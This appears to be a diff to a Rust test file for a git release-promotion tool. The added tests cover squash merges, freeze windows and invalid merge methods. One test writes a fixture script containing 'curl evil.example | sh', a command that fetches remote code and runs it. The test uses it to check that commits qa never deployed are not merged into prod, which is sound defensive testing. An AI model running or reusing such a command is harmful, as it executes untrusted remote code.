@@ -250,19 +250,12 @@ fn promote_merge_merges_the_open_promotion_by_the_targets_method() {
     let mut lines = message.lines();
     assert_eq!(lines.next(), Some("Ship v1.4.0-rc.2 from qa to prod"), "{message}");
     assert_eq!(lines.next().map(|parents| parents.split(' ').count()), Some(1), "a squash has one parent: {message}");
-}
-
-#[test]
-fn a_merge_method_the_forge_does_not_take_is_a_configuration_error() {
-    let world = World::new();
-    let (repos, forge) = ready(&world, Dialect::Github, "merge-method = \"fast-forward\"\n");
-    let vars = [(forge.dialect.variable(), TOKEN), ("GIT_COMMITTER_DATE", crate::harness::NOON)];
-    let round = world.release_with(&repos.release, &["reconcile"], &vars);
-    round
-        .expect_status(2)
-        .expect_stderr("GitHub does not take merge-method = \"fast-forward\"")
-        .expect_stderr("hint: set merge-method to one of: merge, squash");
-    assert!(forge.pulls()[0].open, "nothing merged");
+    // Found by the independent pass: run again, it tried to open the promotion anew (the forge
+    // refused: no commits between); it fetches the branches first now.
+    world
+        .release_with(release, &["promote", "qa", "prod", "--merge"], &vars)
+        .expect_status(0)
+        .expect_stdout("nothing to promote");
 }
 
 #[test]
@@ -304,4 +297,67 @@ fn a_promotion_that_edits_the_targets_settings_is_not_merged() {
         "{round}"
     );
     assert!(forge.pulls()[0].open);
+}
+
+/// Found by the independent pass: a commit pushed to qa's branch after qa deployed (a script
+/// beside the release file, say) rode along into prod with the merge, judged by nobody. Only what
+/// qa ran merges unseen.
+#[test]
+fn a_promotion_carrying_commits_the_source_has_not_deployed_is_not_merged() {
+    let world = World::new();
+    let (repos, forge) = ready(&world, Dialect::Github, "");
+    let release = &repos.release;
+    world.git(release, &["checkout", "-q", "environment/qa"]);
+    world.git(release, &["pull", "-q", "origin", "environment/qa"]);
+    std::fs::write(release.join("deploy.sh"), "curl evil.example | sh\n").expect("written");
+    world.git(release, &["add", "deploy.sh"]);
+    world.git(release, &["commit", "-q", "-m", "A script qa never ran"]);
+    world.git(release, &["push", "-q", "origin", "environment/qa"]);
+    forge.check(&tip(&world, &repos.release_remote, "environment/qa"), CHECK, true);
+    let round = reconcile(&world, release, &forge, &[]);
+    assert!(merges(&round).is_empty(), "{round}");
+    assert!(notes(&round).contains("qa's branch holds commits qa has not deployed"), "{round}");
+    assert!(forge.pulls()[0].open);
+}
+
+/// Found by the independent pass: after a squash, prod's branch holds qa's files but not qa's
+/// commits, and the next round opened (and squashed) the same promotion again.
+#[test]
+fn a_squashed_promotion_is_not_opened_again() {
+    let world = World::new();
+    let (repos, forge) = ready(&world, Dialect::Github, "merge-method = \"squash\"\n");
+    let merged = reconcile(&world, &repos.release, &forge, &[]);
+    assert_eq!(merges(&merged), [1], "{merged}");
+    let after = reconcile(&world, &repos.release, &forge, &[]);
+    assert!(crate::reconcile::actions(&after).is_empty(), "{after}");
+    assert_eq!(forge.pulls().len(), 1, "nothing opened again");
+    let reason = after["environments"][0]["desired"]["reason"].to_string();
+    assert!(reason.contains("holds environment/qa's head already"), "{after}");
+}
+
+/// Found by the independent pass: `promote --merge` merged in a freeze that reconcile waits out.
+#[test]
+fn promote_merge_waits_out_a_freeze_as_reconcile_does() {
+    let world = World::new();
+    let (repos, forge) = ready(&world, Dialect::Github, "freeze = [\"Sat 00:00/Mon 08:00\"]\n");
+    let vars = [(forge.dialect.variable(), TOKEN), ("GIT_COMMITTER_DATE", crate::harness::NOON)];
+    world
+        .release_with(&repos.release, &["promote", "qa", "prod", "--merge"], &vars)
+        .expect_status(0)
+        .expect_stdout("not merging: prod is frozen");
+    assert!(forge.pulls()[0].open, "nothing merged in a freeze");
+}
+
+/// Found by the independent pass: a merge method the forge does not take was said only after
+/// the first rounds had opened and updated the promotion.
+#[test]
+fn a_merge_method_the_forge_does_not_take_is_said_before_anything_is_written() {
+    let world = World::new();
+    let (repos, forge) = auto_merged(&world, Dialect::Github, "merge-method = \"fast-forward\"\n");
+    let vars = [(forge.dialect.variable(), TOKEN), ("GIT_COMMITTER_DATE", crate::harness::NOON)];
+    world
+        .release_with(&repos.release, &["reconcile"], &vars)
+        .expect_status(2)
+        .expect_stderr("GitHub does not take merge-method = \"fast-forward\"");
+    assert!(forge.pulls().is_empty(), "nothing opened");
 }
